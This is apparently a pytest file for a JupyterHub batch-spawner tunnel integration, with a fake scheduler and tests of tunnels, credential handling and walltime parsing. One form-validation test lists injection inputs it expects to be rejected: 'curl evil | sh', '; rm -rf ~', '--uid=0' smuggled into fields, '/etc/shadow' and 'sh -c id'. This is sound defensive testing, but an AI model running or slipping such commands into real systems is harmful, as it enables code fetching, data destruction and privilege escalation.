"""Every batchspawner backend through tunnelbot, each under a stand-in scheduler.

The stand-in (written below) plays qsub/bsub/condor_submit and their query and cancel
commands: it runs the rendered batch script as a node would, with ``/bin/sh`` in a clean
environment (no PATH from the hub: JupyterHub 6), and answers status queries in the backend's
own output format. The real wrapper, the real ssh and the real broker do the rest: the test
fetches a file through the tunnel's hub port. Slurm itself runs for real in test_slurm_e2e.py.
"""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Dict, Iterator, List, Type

import pytest

pytest.importorskip("batchspawner")

from conftest import Broker, http_get, pid_alive, python_http_server, wait_for  # noqa: E402
from tunnelbot_jupyterhub import BrokerClient  # noqa: E402
from tunnelbot_jupyterhub.batch import (  # noqa: E402
    TunnelbotCondorSpawner,
    TunnelbotGridengineSpawner,
    TunnelbotLsfSpawner,
    TunnelbotPBSSpawner,
    TunnelbotTorqueSpawner,
    parse_clock_time,
    parse_lsf_time,
)
from tunnelbot_jupyterhub.form import FormError  # noqa: E402
from tunnelbot_jupyterhub.slurm import TunnelbotSlurmSpawner  # noqa: E402

STAND_IN = r'''
import os, re, shlex, signal, subprocess, sys
state, mode, action = sys.argv[1], sys.argv[2], sys.argv[3]
args = sys.argv[4:]
clean_env = {"HOME": state, "TMPDIR": state, "PATH": "/usr/bin:/bin"}  # a node's login env, no hub PATH

def launch(argv, stdin):
    n = len([f for f in os.listdir(state) if f.endswith(".pid")]) + 101
    with open(f"{state}/job-{n}.log", "wb") as log:
        p = subprocess.Popen(argv, stdin=stdin, stdout=log, stderr=subprocess.STDOUT, env=clean_env,
                             cwd=state, start_new_session=True)
    with open(f"{state}/job-{n}.pid", "w") as f:
        f.write(str(p.pid))
    return n

def alive(n):
    try:
        pid = int(open(f"{state}/job-{n}.pid").read())
        os.kill(pid, 0)
    except (OSError, ValueError):
        return 0
    stat = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return pid if stat[0] != "Z" else 0

def condor_arguments(description):
    value = re.search(r'^Arguments = "(.*)"$', description, re.M).group(1).replace('""', '"')
    argv, word, i, quoted = [], "", 0, False
    while i < len(value):
        c = value[i]
        if c == "'" and quoted and value[i + 1:i + 2] == "'":
            word += "'"; i += 2; continue
        if c == "'":
            quoted = not quoted
        elif c == " " and not quoted:
            if word: argv.append(word)
            word = ""
        else:
            word += c
        i += 1
    if word: argv.append(word)
    return argv

if action == "submit":
    script = sys.stdin.read()
    path = f"{state}/script-{len(os.listdir(state))}"
    with open(path, "w") as f:
        f.write(script)
    n = launch(["/bin/sh", path], subprocess.DEVNULL)
    print({"torque": f"{n}.server", "pbs": f"{n}.server", "sge": f'Your job {n} ("spawner-jupyterhub") has been submitted',
           "lsf": f"Job <{n}> is submitted to default queue <normal>."}[mode])
elif action == "condor_submit":
    description = sys.stdin.read()
    with open(f"{state}/script-{len(os.listdir(state))}", "w") as f:
        f.write(description)
    n = launch(["/bin/sh"] + condor_arguments(description), subprocess.DEVNULL)
    print(f"Submitting job(s).\n1 job(s) submitted to cluster {n}.")
elif action == "query":
    n = args[0].split(".")[0] if args else ""
    if mode == "sge":
        jobs = [f.split("-")[1].split(".")[0] for f in os.listdir(state) if f.endswith(".pid")]
        rows = "".join(f'<job_list state="running"><JB_job_number>{j}</JB_job_number><queue_name>all.q@node1</queue_name></job_list>'
                       for j in jobs if alive(j))
        print(f"<job_info><queue_info>{rows}</queue_info></job_info>")
    elif alive(n):
        print({"torque": "<Data><Job><job_state>R</job_state><exec_host>node1/0</exec_host></Job></Data>",
               "pbs": "job_state = R\n    exec_host = node1/0", "lsf": "RUN node1", "condor": "2, slot1@node1"}[mode])
elif action == "cancel":
    pid = alive(args[0].split(".")[0])
    if pid:
        os.killpg(pid, signal.SIGTERM)
'''

BACKENDS: Dict[str, Type[Any]] = {
    "torque": TunnelbotTorqueSpawner,
    "pbs": TunnelbotPBSSpawner,
    "sge": TunnelbotGridengineSpawner,
    "lsf": TunnelbotLsfSpawner,
    "condor": TunnelbotCondorSpawner,
}
WALLTIMES = {"torque": ("1:30:00", 5400), "pbs": ("90:00", 5400), "sge": ("5400", 5400), "lsf": ("1:30", 5400)}

_started: List[Any] = []


@pytest.fixture(autouse=True)
def _stop_leftover_jobs() -> Iterator[None]:
    yield
    while _started:
        spawner = _started.pop()
        if spawner.job_id:
            asyncio.run(spawner.cancel_batch_job())


def make(mode: str, broker: Broker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, **traits: Any) -> Any:
    state = tmp_path / "scheduler"
    state.mkdir(exist_ok=True)
    stand_in = tmp_path / "stand_in.py"
    stand_in.write_text(STAND_IN)
    run = f"{sys.executable} {stand_in} {state} {mode}"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    condor_submit = bin_dir / "condor_submit"
    condor_submit.write_text(f"#!/bin/sh\nexec {run} condor_submit\n")
    condor_submit.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    site = tmp_path / "site"
    site.mkdir(exist_ok=True)
    (site / "hello.txt").write_text(f"hello from {mode}")
    settings: Dict[str, Any] = {
        "exec_prefix": "",
        "batch_query_cmd": f"{run} query {{job_id}}",
        "batch_cancel_cmd": f"{run} cancel {{job_id}}",
        "cmd": python_http_server(site),
        "broker_url": broker.admin_url,
        "broker_token_file": str(broker.token_file),
        "ssh_host": "127.0.0.1",
        "connect_timeout": 30,
        "startup_poll_interval": 0.1,
        "req_homedir": str(state),
        **traits,
    }
    if mode != "condor":
        settings["batch_submit_cmd"] = f"{run} submit"
    user = SimpleNamespace(name="alice", escaped_name="alice", url="/user/alice/")
    hub = SimpleNamespace(public_host="", api_url="http://127.0.0.1:1/hub/api/", base_url="/hub/")
    spawner = BACKENDS[mode](user=user, hub=hub, db=SimpleNamespace(commit=lambda: None), **settings)
    _started.append(spawner)
    return spawner


@pytest.mark.parametrize("mode", list(BACKENDS))
def test_backend_job_runs_behind_the_tunnel(mode: str, broker: Broker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spawner = make(mode, broker, tmp_path, monkeypatch)
    ip, port = asyncio.run(spawner.start())
    assert (ip, port) == ("127.0.0.1", spawner.tunnel_port)

    def ok() -> bool:
        try:
            return f"hello from {mode}".encode() in http_get(port, "/hello.txt")
        except OSError:
            return False

    wait_for(ok, 20, "a GET through the hub port")
    state = tmp_path / "scheduler"
    # The wrapper ran as `tunnelbot-job --credential - ...` (Condor: --credential-move), not
    # behind batchspawner-singleuser, and found on the PATH the script set.
    scripts = "\n".join(p.read_text() for p in state.glob("script-*"))
    assert "batchspawner-singleuser" not in scripts
    assert "tunnelbot-job --credential" in scripts
    # No key in any job process's argv or environment.
    job_pid = int(next(state.glob("job-*.pid")).read_text())
    from conftest import descendants

    for pid in [job_pid, *descendants(job_pid)]:
        try:
            blob = Path(f"/proc/{pid}/cmdline").read_bytes() + Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        assert b"PRIVATE KEY" not in blob and b"TUNNELBOT_KEY" not in blob
    if mode == "condor":  # the dropped credential and env files are gone once read
        (drop,) = state.glob(".tunnelbot-cred.*")
        assert drop.stat().st_mode & 0o777 == 0o700
        wait_for(lambda: not list(drop.iterdir()), 10, "the credential file to be deleted")
    assert asyncio.run(spawner.poll()) is None

    tunnel_id = spawner.tunnel_id
    asyncio.run(spawner.stop())
    tunnel = asyncio.run(BrokerClient(broker.admin_url, broker.token).get(tunnel_id))
    assert tunnel is not None and tunnel.state == "revoked"
    wait_for(lambda: not pid_alive(job_pid), 20, "the job to end")


def test_a_missing_wrapper_is_named(broker: Broker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spawner = make("lsf", broker, tmp_path, monkeypatch, job_wrapper=["no-such-tunnelbot-job"], connect_timeout=10)
    with pytest.raises((RuntimeError, TimeoutError)):
        asyncio.run(spawner.start())
    (log,) = (tmp_path / "scheduler").glob("job-*.log")
    wait_for(lambda: "no-such-tunnelbot-job was not found" in log.read_text(), 10, "the wrapper check's message")
    assert spawner.tunnel_id == ""


@pytest.mark.parametrize("mode", list(WALLTIMES))
def test_walltime_per_backend(mode: str) -> None:
    value, seconds = WALLTIMES[mode]
    s = BACKENDS[mode](user=SimpleNamespace(name="alice"), req_runtime=value)
    assert s.walltime_seconds() == seconds
    assert s.tunnel_lifetime() == seconds + s.lifetime_margin
    assert s.batchspawner_singleuser_cmd == ""


def test_walltime_parsers() -> None:
    assert parse_clock_time("12") == 12 and parse_clock_time("2:03") == 123 and parse_clock_time("1:00:01") == 3601
    assert parse_clock_time("1-00") is None and parse_clock_time("") is None
    assert parse_lsf_time("90") == 5400 and parse_lsf_time("2:30") == 9000 and parse_lsf_time("1:2:3") is None
    condor = TunnelbotCondorSpawner(user=SimpleNamespace(name="alice"), default_lifetime=7200)
    assert condor.tunnel_lifetime() == 7200


def form_spawner(**traits: Any) -> TunnelbotSlurmSpawner:
    settings: Dict[str, Any] = {
        "form_partitions": ["interactive", "gpu"],
        "form_runtime_max": "12:00:00",
        "form_nprocs_max": 8,
        "form_memory_max": "64G",
        "form_images": {"python": "/shared/images/python.sif", "r": "/shared/images/r.sif"},
        **traits,
    }
    return TunnelbotSlurmSpawner(user=SimpleNamespace(name="alice"), **settings)


def test_spawn_form_validates_every_value() -> None:
    s = form_spawner()
    form = s.options_form(s) if callable(s.options_form) else s.options_form
    assert 'name="partition"' in form and "/shared/images" not in form  # labels only, never paths
    good = s.options_from_form(
        {"partition": ["gpu"], "runtime": ["4:00:00"], "nprocs": ["4"], "memory": ["16g"], "image": ["r"]}
    )
    assert good == {"partition": "gpu", "runtime": "4:00:00", "nprocs": "4", "memory": "16G", "image": "r"}
    for bad in (
        {"partition": ["debug"]},
        {"partition": ["gpu\n#SBATCH --uid=0"]},
        {"runtime": ["13:00:00"]},
        {"runtime": ["1:00:00; rm -rf ~"]},
        {"runtime": ["UNLIMITED"]},
        {"nprocs": ["9"]},
        {"nprocs": ["0"]},
        {"nprocs": ["1 --uid=0"]},
        {"memory": ["65G"]},
        {"memory": ["1G --uid=0"]},
        {"image": ["/etc/shadow"]},
        {"cmd": ["sh -c id"]},
        {"prologue": ["curl evil | sh"]},
    ):
        with pytest.raises(FormError):
            s.options_from_form(bad)
    # The REST API sets user_options without the form: the same checks run at submission.
    s.user_options = {"partition": "gpu", "runtime": "2:00:00", "image": "python"}
    assert s.walltime_seconds() == 7200 and s.tunnel_lifetime() == 7200 + s.lifetime_margin
    assert s.form_subvars()["image"] == "/shared/images/python.sif"
    assert s.job_argv()[:6] == ["tunnelbot-job", "--credential", "-", "apptainer", "exec", "/shared/images/python.sif"]
    s.user_options = {"options": "--uid=0"}
    with pytest.raises(FormError):
        s.form_subvars()


def test_no_form_without_choices() -> None:
    s = TunnelbotSlurmSpawner(user=SimpleNamespace(name="alice"))
    assert not s.options_form
    with pytest.raises(FormError):
        s.check_options({"runtime": "1:00:00"})  # nothing is user-settable unless offered
    with pytest.raises(Exception):
        form_spawner(form_images={"x": "relative/path.sif"})


def test_squeue_format_survives_two_shells() -> None:
    s = TunnelbotSlurmSpawner(user=SimpleNamespace(name="alice"), exec_prefix="ssh gateway@login")
    query = s.batch_query_cmd.format(job_id="42")
    assert "'" not in query and '"' not in query and " %" not in query.replace(" -o %", "")
    s.job_status = "RUNNING:node7"
    assert s.state_isrunning() and s.state_gethost() == "node7"
    s.job_status = "PENDING:n/a"
    assert s.state_ispending()
    assert s.submit_remote and s.req_homedir == "" and s.job_path == ""
    assert s.parse_exit_status("JobId=42 JobState=FAILED ExitCode=127:0 RunTime=0") == 127
    assert s.parse_exit_status("JobId=42 JobState=CANCELLED ExitCode=0:15") == 143


def test_a_launcher_can_take_the_credential_on_stdin(broker: Broker, tmp_path: Path) -> None:
    """credential_via_stdin: the mixin hands the bundle to the launcher, not to a file."""
    import subprocess

    from jupyterhub.spawner import Spawner

    from tunnelbot_jupyterhub import TunnelbotSpawnerMixin

    class StdinLauncher(Spawner):
        proc: Any = None

        async def start(self) -> Any:
            env = {"PATH": f"{os.path.dirname(sys.executable)}:/usr/bin:/bin", "TMPDIR": str(tmp_path)}
            with open(tmp_path / "job.log", "ab") as log:
                self.proc = subprocess.Popen(self.cmd, env=env, stdin=subprocess.PIPE, stdout=log, stderr=log)
            self.proc.stdin.write(self.credential_stdin.encode())
            self.proc.stdin.close()
            return ("192.0.2.1", 9)

        async def poll(self) -> Any:
            return None if self.proc is None else self.proc.poll()

        async def stop(self, now: bool = False) -> None:
            if self.proc is not None and self.proc.poll() is None:
                self.proc.terminate()
                self.proc.wait(20)

    class Spawned(TunnelbotSpawnerMixin, StdinLauncher):
        credential_via_stdin = True

    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "hello.txt").write_text("hello over stdin")
    spawner = Spawned(user=SimpleNamespace(name="alice"), cmd=python_http_server(tmp_path / "site"),
                      broker_url=broker.admin_url, broker_token_file=str(broker.token_file), ssh_host="127.0.0.1",
                      connect_timeout=30)
    try:
        _, port = asyncio.run(spawner.start())
        assert spawner.proc.args[:3] == ["tunnelbot-job", "--credential", "-"]
        assert spawner.credential_stdin is None  # only held while launching
        def ok() -> bool:
            try:  # the notebook may not listen yet when the tunnel is up
                return b"hello over stdin" in http_get(port, "/hello.txt")
            except OSError:
                return False

        wait_for(ok, 20, "a GET through the hub port")
        assert not list(tmp_path.glob("tunnelbot-cred.*"))
    finally:
        asyncio.run(spawner.stop())
